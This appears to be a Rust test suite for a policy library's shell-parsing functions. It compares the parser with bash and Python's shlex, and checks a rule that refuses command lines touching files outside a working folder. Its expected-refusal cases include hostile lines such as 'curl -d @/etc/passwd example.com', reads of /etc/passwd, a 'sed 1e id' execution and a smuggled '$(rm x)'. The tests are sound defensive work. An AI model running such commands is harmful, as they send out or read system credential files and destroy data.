//! Command lines: a corpus of lines, and what bash and Python's `shlex` say of thousands more.
//!
//! The promise is that bash sees just the commands that are given for a line. It runs lines that were put together by chance, with
//! a search path on which nothing is found, so that each command ends in a handler that notes its words. No line has a slash or
//! the name of a command in it, so nothing can be run, and files are made in folders of the test alone.

use crate::check_rows::hold;
use crate::suites::root;
use celador::cel::{
    Activation, Code, EXTENSIONS, Env, EnvBuilder, ErrorCode, Fault, Json, LIBRARIES, List, Map, Meter,
    Program, PureCode, STANDARD, Stop, Type, Value,
};
use celador::limits::EvalLimits;
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config, TestRunner};
use std::collections::BTreeSet;
use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

/// The code of a function of the library.
fn code(name: &str) -> PureCode {
    let mut rows = LIBRARIES.iter().flat_map(|(_, rows)| *rows);
    match rows.find(|row| row.name == name).map(|row| row.code) {
        Some(Code::Pure(code)) => code,
        _ => panic!("`{name}` is a function"),
    }
}

fn ask(name: &str, line: &str) -> Result<Value<'static>, Fault> {
    code(name)(&mut Meter::new(&EvalLimits::default()), &[&Value::owned_text(line)])
}

/// A command as `shell.parse` gives it.
#[derive(Clone, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
struct Parsed {
    words: Vec<String>,
    reads: Vec<String>,
    writes: Vec<String>,
    variables: usize,
}

fn texts(list: &List<'_>) -> Vec<String> {
    list.iter().map(|item| item.as_str().unwrap().to_owned()).collect()
}

fn list<'a>(map: &Map<'a>, key: &str) -> Vec<String> {
    match map.get_str(key) {
        Some(Value::List(list)) => texts(&list),
        other => panic!("`{key}` is {other:?}"),
    }
}

fn parse(line: &str) -> Option<Vec<Parsed>> {
    let Value::List(commands) = ask("shell.parse", line).ok()? else { panic!("it is a list") };
    let command = |command| match command {
        Value::Map(map) => Parsed {
            words: list(&map, "words"),
            reads: list(&map, "reads"),
            writes: list(&map, "writes"),
            variables: match map.get_str("variables") {
                Some(Value::Map(variables)) => variables.len(),
                other => panic!("the variables are {other:?}"),
            },
        },
        other => panic!("a command is {other:?}"),
    };
    Some(commands.iter().map(command).collect())
}

/// Both functions of a line, as the corpus writes them.
fn both(line: &str) -> String {
    let commands = match ask("shell.parse", line) {
        Ok(Value::List(commands)) => commands,
        Ok(other) => panic!("{other:?} is no list"),
        Err(fault) => {
            assert!(ask("shell.commands", line).is_err(), "{line}");
            return format!("refused: {fault}");
        }
    };
    let mut said = Vec::new();
    for command in commands.iter() {
        let Value::Map(map) = &command else { panic!("{command:?} is no map") };
        let mut shown = Vec::new();
        for (key, value) in map.iter() {
            let part = Json::from_value(&value, &EvalLimits::default()).unwrap().to_string();
            let Value::String(name) = key.value() else { panic!("{key:?} is no name") };
            match (&*name, part.as_str()) {
                ("words", words) => shown.push(words.to_owned()),
                (_, "[]" | "{}" | "false") => {}
                ("piped", _) => shown.push("piped".to_owned()),
                (name, part) => shown.push(format!("{name} {part}")),
            }
        }
        said.push(shown.join(" "));
    }
    match ask("shell.commands", line) {
        Ok(Value::List(alone)) => {
            let alone: Vec<_> =
                alone.iter().map(|words| Json::from_value(&words, &EvalLimits::default()).unwrap()).collect();
            let parsed = parse(line).unwrap();
            let parsed: Vec<_> =
                parsed.into_iter().map(|command| Json::from(serde_json::json!(command.words))).collect();
            assert_eq!(alone, parsed, "{line}");
        }
        Ok(other) => panic!("{other:?} is no list"),
        Err(fault) => said.push(format!("words alone refused: {fault}")),
    }
    if said.is_empty() { "no command".to_owned() } else { said.join("\n") }
}

#[test]
fn lines_are_read_or_refused_as_the_corpus_says() {
    hold("shell/lines.txt", 214, both);
}

/// The rules of the guide, each with lines and what becomes of them: a block of CEL, and a block of lines behind it.
#[test]
fn the_rules_of_the_guide_decide_as_it_says() {
    let guide = fs::read_to_string(root().join("docs/security.md")).unwrap();
    let scope = Env::builder().variable("input", Type::Dyn);
    let env = STANDARD.iter().chain(EXTENSIONS).copied().fold(scope, EnvBuilder::library).build();
    let (mut rules, mut lines) = (0, 0);
    for part in guide.split("```cel\n").skip(1) {
        let (rule, behind) = part.split_once("```").unwrap();
        let program = Program::compile(&env, rule).unwrap();
        let (_, examples) = behind.split_once("```text\n").unwrap();
        for example in examples.split_once("```").unwrap().0.lines() {
            let (line, expected) = example.split_once("  →  ").unwrap();
            let input = Json::object([("command", Json::string(line))]);
            let activation = Activation::new(&env).with(&env, "input", input.value());
            let found = match program.holds(&activation, None) {
                Ok(holds) => holds.to_string(),
                Err(Stop::Failed(error)) if error.code == ErrorCode::InvalidArgument => "error".to_owned(),
                Err(other) => format!("{other:?}"),
            };
            assert_eq!(found, expected, "{line}");
            lines += 1;
        }
        rules += 1;
    }
    assert_eq!((rules, lines), (2, 31));
}

/// A file of `shell.paths`: its path, if it is known, and whether it is read and written.
type Touched = (Option<String>, bool, bool);

fn touched(line: &str, folder: &str) -> Option<Vec<Touched>> {
    let line = Value::owned_text(line);
    let found =
        code("shell.paths")(&mut Meter::new(&EvalLimits::default()), &[&line, &Value::text(folder)]).ok()?;
    let Value::List(found) = found else { panic!("it is a list") };
    let entry = |entry| {
        let Value::Map(map) = entry else { panic!("an entry is a map") };
        let flag = |name| map.get_str(name).is_some_and(|value| value.is_truthy());
        let path = map.get_str("path").map(|path| path.as_str().unwrap().to_owned());
        assert_eq!(path.is_none(), map.get_str("unknown").is_some());
        (path, flag("reads"), flag("writes"))
    };
    Some(found.iter().map(entry).collect())
}

/// What strace has seen on Linux is what the function gives, or less; `tests/data/shell/make_files.py` writes the table.
#[test]
fn programs_touch_no_other_files_than_those_that_are_given() {
    let table = include_str!("../data/shell/files.tsv");
    let (mut lines, mut known, mut files) = (0, 0, 0);
    for row in table.lines() {
        let [line, read, seen, written] = row.split('\t').collect::<Vec<_>>()[..] else { panic!("{row}") };
        let Some(given) = touched(line, "/w") else { panic!("{line} cannot be read") };
        lines += 1;
        if given.iter().any(|(path, ..)| path.is_none()) {
            continue;
        }
        known += 1;
        for (seen, is_write) in [(read, false), (seen, false), (written, true)] {
            for file in seen.split(' ').filter(|file| !file.is_empty()) {
                let file = if file == "." { "/w".to_owned() } else { format!("/w/{file}") };
                // a folder is read and written with what is in it, and those around a file are looked at, or made by `mkdir -p`
                let covers = |path: &str| {
                    let path = path.replace("/./", "/");
                    let path = path.trim_end_matches("/.");
                    let is_around =
                        (!is_write || line.contains("mkdir")) && path.starts_with(&format!("{file}/"));
                    file == path || file.starts_with(&format!("{path}/")) || is_around
                };
                let is_given = given
                    .iter()
                    .any(|(path, _, writes)| path.as_deref().is_some_and(covers) && (*writes || !is_write));
                assert!(is_given, "{line}: {file} (written: {is_write}) is not in {given:?}");
                files += 1;
            }
        }
    }
    assert!(lines > 1_000 && known * 2 > lines && files > 1_000, "{lines} {known} {files}");
}

/// What a rule of a guide asks: whether all files are in the folder, where an error is a no.
#[test]
fn files_outside_of_the_folder_are_refused() {
    for (line, expected) in [
        ("cat src/main.rs", true),
        ("cat -n /work/src/main.rs", true),
        ("grep -rn 'a/b' src", true),
        ("grep /etc/passwd notes", true),
        ("echo /etc/passwd", true),
        ("sed -n '1,5p' src/main.rs", true),
        ("sed -i 's/a/b/g' src/main.rs", true),
        ("find . -name '*.rs' -newer notes", true),
        ("cd src && cat main.rs", true),
        ("ls 2>/dev/null", true),
        ("head -n 5 notes | sort -u | uniq -c > counts", true),
        ("cat /etc/passwd", false),
        ("cat ../x", false),
        ("cat src/../../x", false),
        ("cat -- -n /etc/passwd", false),
        ("head -n /etc/passwd", true),
        ("head a -n /etc/passwd", false),
        ("grep -f /etc/passwd x", false),
        ("grep -rf/etc/passwd x", false),
        ("grep --file=/etc/passwd x", false),
        ("grep --fil=/etc/passwd x", false),
        ("grep -e a /etc/passwd", false),
        ("grep a -e b", true),
        ("grep - /etc/passwd", false),
        ("grep a -e /etc/passwd", false),
        ("grep -5 a notes", true),
        ("head -5 notes", true),
        ("head -5c /etc/passwd", false),
        ("tail -5f /etc/passwd", false),
        ("tail -fn5 notes", true),
        ("xxd -ps /etc/passwd", false),
        ("xxd -ac /etc/passwd", false),
        ("ln a", true),
        ("ln ../x", false),
        ("sort -o/etc/x notes", false),
        ("sort -uo /etc/x notes", false),
        ("sort --output=/etc/x notes", false),
        ("sort --compress-program=x notes", false),
        ("sort --files0-from=x", false),
        ("wc --files0-from x", false),
        ("md5sum -c sums", false),
        ("uniq notes /etc/x", false),
        ("xxd -r notes /etc/x", false),
        ("cp notes /etc/x", false),
        ("cp -t /etc notes", false),
        ("cp --target-directory=/etc notes", false),
        ("mv -t/etc notes", false),
        ("ln -s ../../etc x", false),
        ("tee /etc/x < notes", false),
        ("touch -r /etc/x notes", false),
        ("cat notes > /etc/x", false),
        ("> /etc/x", false),
        ("cat < /etc/x", false),
        ("cd / && cat etc/passwd", false),
        ("cd /; (cd ..; ls)", false),
        ("cd && ls", false),
        ("cd - && ls", false),
        ("pushd / && ls", false),
        ("sed -n 'w /etc/x' notes", false),
        ("sed 's/a/b/w /etc/x' notes", false),
        ("sed 's/[/]w /x' notes", false),
        ("sed -e 'r /etc/passwd' notes", false),
        ("sed -i.bak p notes", false),
        ("sed -f x notes", false),
        ("sed '1e id' notes", false),
        ("find /etc", false),
        ("find . -delete", true),
        ("find . -fprint /etc/x", false),
        ("find . -exec rm {} +", false),
        ("find . -execdir x {} +", false),
        ("find . -files0-from x", false),
        ("find -L . -newer /etc/x", false),
        ("ls | xargs cat", false),
        ("python3 -c 'open(1)'", false),
        ("sh -c 'cat x'", false),
        ("awk '{ print > \"/etc/x\" }' notes", false),
        ("env cat x", false),
        ("PATH=. ls", false),
        ("/bin/cat notes", false),
        ("./run", false),
        ("make", false),
        ("dd if=/etc/passwd of=x", false),
        ("curl -d @/etc/passwd example.com", false),
        ("tar xf a.tar", false),
        ("[ -v 'a[$(rm x)]' ]", false),
        ("[ -f notes ]", true),
        ("cat $HOME/x", false),
        ("cat ~/x", false),
        ("cat src/*", false),
        ("cat $(echo x)", false),
        ("cat 'unclosed", false),
    ] {
        let scope = Env::builder().variable("line", Type::String);
        let env = STANDARD.iter().chain(EXTENSIONS).copied().fold(scope, EnvBuilder::library).build();
        let rule = "shell.paths(line, '/work').all(p, path.within(p.path, '/work'))";
        let program = Program::compile(&env, rule).unwrap();
        let activation = Activation::new(&env).with(&env, "line", Value::text(line));
        assert_eq!(
            program.holds(&activation, None).unwrap_or(false),
            expected,
            "{line}: {:?}",
            touched(line, "/work")
        );
    }
}

/// `-` is an operand, and `ln` with one of them makes a file in the folder.
#[test]
fn what_is_written_is_told_from_what_is_read() {
    for (line, written) in [
        ("uniq - out", &["/w/out"][..]),
        ("xxd notes out", &["/w/out"]),
        ("cp a b out", &["/w/out"]),
        ("cp -t out a b", &["/w/out"]),
        ("ln lib/a", &["/w/.", "/w/lib/a"]),
        ("ln a b", &["/w/a", "/w/b"]),
        ("mv a b", &["/w/a", "/w/b"]),
        ("sort -o out in", &["/w/out"]),
        ("sed -n p in", &[]),
        ("sed -i p in", &["/w/in"]),
        ("touch -r in out", &["/w/out"]),
        ("chmod 700 out", &["/w/out"]),
        ("grep -f in in", &[]),
        ("find lib -name x -delete", &["/w/lib"]),
        ("find lib -fprintf out x", &["/w/out"]),
        ("(cd lib; cat in) > out", &["/w/out", "/w/out", "/w/lib/out"]),
    ] {
        let touched = touched(line, "/w").unwrap();
        let found: Vec<String> =
            touched.into_iter().filter(|(_, _, writes)| *writes).map(|(path, ..)| path.unwrap()).collect();
        assert_eq!(found, written, "{line}");
    }
}

/// A rule that keeps the program list apart sees which words of an unknown program may be files.
#[test]
fn words_of_unknown_programs_may_be_files() {
    let paths = |line: &str| {
        let touched = touched(line, "/w").unwrap();
        touched
            .into_iter()
            .map(|(path, reads, writes)| {
                assert!(reads && writes);
                path.unwrap_or_default()
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(paths("make -C lib all"), ["", "/w/lib", "/w/all"]);
    assert_eq!(
        paths("run if=/etc/x @y --out=z/a -I/usr -I.. --quiet host:/b"),
        ["", "/w/if", "/etc/x", "/w/y", "/w/z/a", "", "", "/w/host", "/b"]
    );
    assert_eq!(paths("bin/run a"), ["", "/w/bin/run", "/w/a"]);
}

/// Pieces of lines, put together without blanks in between.
const PIECES: [&str; 84] = [
    "a",
    "b",
    "ab",
    "A",
    "1",
    "2",
    "12",
    "c",
    " ",
    " ",
    " ",
    " ",
    " ",
    " ",
    "\t",
    "\n",
    "\n",
    ";",
    ";",
    "; ",
    "&",
    "&&",
    " && ",
    "|",
    " | ",
    "||",
    "|&",
    "(",
    ")",
    "{ ",
    "; }",
    "{",
    "}",
    "{}",
    "(",
    ")",
    "! ",
    "!",
    "!=",
    ">",
    "> ",
    ">>",
    ">|",
    "<",
    "<>",
    ">&",
    "<&",
    "&>",
    "&>>",
    "2>&1",
    "2>",
    "-",
    "'",
    "\"",
    "'x y'",
    "\"p q\"",
    "''",
    "\"\"",
    "\"\\\"\"",
    "\"\\$\"",
    "\"\\a\"",
    "\"a\\\nb\"",
    "'\n'",
    "\\",
    "\\ ",
    "\\a",
    "\\\n",
    "\\;",
    "\\'",
    "\\\\",
    "#",
    " #c\n",
    "=",
    "A=",
    "A=1",
    "a+=",
    "~",
    ":",
    "*",
    "$",
    "`",
    "if",
    ",",
    "é",
];

fn line() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        2 => prop::sample::select(&PIECES[..]),
        // words and blanks, so that longer lines are accepted as well
        3 => prop::sample::select(&["a", "b", " c", " ", " 'd;'", " \"e f\" ", "; ", " | ", " >f "][..]),
    ];
    prop::collection::vec(piece, 1..14).prop_map(|pieces| pieces.concat())
}

/// Reads lines, each ended by a zero byte, and runs each in a folder of its own. `$OUT.$n` gets a line for each
/// command that was looked for, its words parted by a character that no line has.
const SCRIPT: &str = r#"
command_not_found_handle() {
    local IFS=$'\x1e'
    local words="$*"
    printf '%s\n' "${words//$'\n'/$'\x1f'}" >> "$OUT.$n"
    return "$STATUS"
}
n=0
while IFS= read -r -d '' line; do
    if ( eval "if false; then
$line
:
fi" ) 2>/dev/null; then
        ( cd "$ROOT/$n" && eval -- "$line"; wait ) </dev/null >/dev/null 2>&1
    else
        printf 'no syntax\n' >> "$OUT.$n"
    fi
    n=$((n + 1))
done
"#;

/// The words of the commands that bash looks for in each line if all of them end with a status, and the files that it makes.
fn run(bash: &str, lines: &[&str], status: u8) -> Vec<(Vec<Vec<String>>, BTreeSet<String>)> {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    (0..lines.len()).for_each(|line| fs::create_dir(root.join(line.to_string())).unwrap());
    let out = root.join("out");
    let mut bash = Command::new(bash)
        .args(["--norc", "--noprofile", "-c", SCRIPT])
        .env_clear()
        .envs([("ROOT", root), ("OUT", &out), ("PATH", Path::new("/nonexistent"))])
        .env("STATUS", status.to_string())
        .env("LC_ALL", "C.UTF-8")
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = bash.stdin.take().unwrap();
    lines.iter().for_each(|line| stdin.write_all(format!("{line}\0").as_bytes()).unwrap());
    drop(stdin);
    assert!(bash.wait().unwrap().success());
    let seen = |line: usize| {
        let noted = fs::read_to_string(root.join(format!("out.{line}"))).unwrap_or_default();
        assert_ne!(noted, "no syntax\n", "bash cannot read {:?}", lines[line]);
        let words = |words: &str| words.split('\x1e').map(|word| word.replace('\x1f', "\n")).collect();
        let made = fs::read_dir(root.join(line.to_string())).unwrap();
        let made = made.map(|file| file.unwrap().file_name().into_string().unwrap()).collect();
        (noted.lines().map(words).collect(), made)
    };
    (0..lines.len()).map(seen).collect()
}

/// Whether the first list is part of the second, each command counted.
fn is_part(mut some: Vec<Vec<String>>, mut all: Vec<Vec<String>>) -> bool {
    some.sort();
    all.sort();
    let mut all = all.into_iter();
    some.into_iter().all(|command| all.any(|other| other == command))
}

/// What a program answers if it is asked for itself, or nothing where it is not there.
fn itself(program: &str, question: &str) -> Option<String> {
    let answer =
        Command::new(program).args(["-c", question]).output().ok().filter(|output| output.status.success());
    if answer.is_none() {
        println!("skipped: there is no `{program}` here");
    }
    Some(String::from_utf8(answer?.stdout).unwrap().trim().to_owned())
}

#[test]
fn bash_sees_the_same_commands_in_every_line_that_is_accepted() {
    let Some(bash) = itself("bash", "echo $BASH") else { return };
    let mut runner = TestRunner::new(Config { failure_persistence: None, ..Config::default() });
    let (mut made, mut lines) = (0, BTreeSet::new());
    while lines.len() < 1_500 {
        made += 1;
        let line = line().new_tree(&mut runner).unwrap().current();
        if parse(&line).is_some() {
            lines.insert(line);
        }
    }
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let (mut exactly, mut commands) = (0, 0);
    for (status, seen) in [(0, run(&bash, &lines, 0)), (1, run(&bash, &lines, 1))] {
        for (line, (ran, files)) in lines.iter().zip(seen) {
            let parsed = parse(line).unwrap();
            // these are the shell's own: it does not look for them
            let is_own = |word: &String| word == ":" || word == "[";
            let words: Vec<Vec<String>> = parsed
                .iter()
                .map(|command| command.words.clone())
                .filter(|words| words.first().is_some_and(|first| !is_own(first)))
                .collect();
            let writes: BTreeSet<String> = parsed.iter().flat_map(|command| command.writes.clone()).collect();
            let context =
                format!("{line:?} with {status}: bash ran {ran:?} and made {files:?}, not {parsed:?}");
            assert!(is_part(ran.clone(), words.clone()), "{context}");
            assert!(files.is_subset(&writes), "{context}");
            // with these, a command may not run at all
            let may_fail = ["&&", "||", "<", ">&"].iter().any(|sign| line.contains(sign));
            if !may_fail && !writes.contains("") {
                assert!(is_part(words.clone(), ran), "{context}");
                assert_eq!(files, writes, "{context}");
                exactly += 1;
                commands += words.len();
            }
        }
    }
    println!(
        "{} of {made} lines accepted, {exactly} runs compared exactly, {commands} commands",
        lines.len()
    );
    assert!(exactly > 1_500);
}

/// Asks Python for the words of each line, as JSON.
const SPLIT: &str =
    "import json, shlex, sys\nprint(json.dumps([shlex.split(line) for line in json.load(sys.stdin)]))";

proptest! {
    #![proptest_config(ProptestConfig { cases: 8, ..ProptestConfig::default() })]

    /// Words in quotes of every kind and none, of characters of every kind.
    #[test]
    fn a_command_has_the_words_that_it_was_written_with(
        lines in prop::collection::vec(prop::collection::vec((0..4_u8, "[ -~éß\u{4e00}\u{1f600}\t\n]{0,8}"), 1..6), 200)
    ) {
        let written: Vec<String> = lines.iter().map(|words| words.iter().map(quoted).collect::<Vec<_>>().join(" \t")).collect();
        let words: Vec<Vec<&str>> = lines.iter().map(|words| words.iter().map(|(_, word)| word.as_str()).collect()).collect();
        for (line, words) in written.iter().zip(&words) {
            match parse(line) {
                Some(commands) => prop_assert_eq!(&commands[0].words, words, "{}", line),
                // a shell at a terminal may replace this one, and these are the shell's own
                None => prop_assert!(line.contains('!') || ask("shell.parse", line).is_err_and(|fault| fault.to_string().contains("eval")), "{}", line),
            }
        }
        if itself("python3", "1").is_some() {
            let mut python = Command::new("python3")
                .args(["-c", SPLIT])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .spawn()
                .unwrap();
            serde_json::to_writer(python.stdin.take().unwrap(), &written).unwrap();
            let split: Vec<Vec<String>> = serde_json::from_slice(&python.wait_with_output().unwrap().stdout).unwrap();
            prop_assert_eq!(split, words);
        }
    }
}

/// A word as people write it: in single quotes, in double ones, with a backslash before each sign, or as parts of these.
fn quoted((how, word): &(u8, String)) -> String {
    let single = |word: &str| format!("'{}'", word.replace('\'', r"'\''"));
    let double = |word: &str| {
        // `shlex` keeps a backslash before these two
        let plain = word.replace('\\', r"\\").replace('"', "\\\"");
        let parts: Vec<String> = plain.split(['$', '`']).map(|part| format!("\"{part}\"")).collect();
        let signs = plain.chars().filter(|c| matches!(c, '$' | '`')).map(|sign| format!("'{sign}'"));
        parts
            .into_iter()
            .zip(signs.chain([String::new()]))
            .map(|(part, sign)| part + &sign)
            .collect::<String>()
    };
    match how {
        0 => single(word),
        1 => double(word),
        2 if !word.is_empty() && !word.contains('\n') => word.chars().flat_map(|c| ['\\', c]).collect(),
        _ => match word.char_indices().nth(word.chars().count() / 2) {
            Some((middle, _)) => single(&word[..middle]) + &double(&word[middle..]),
            None => "''".to_owned(),
        },
    }
}
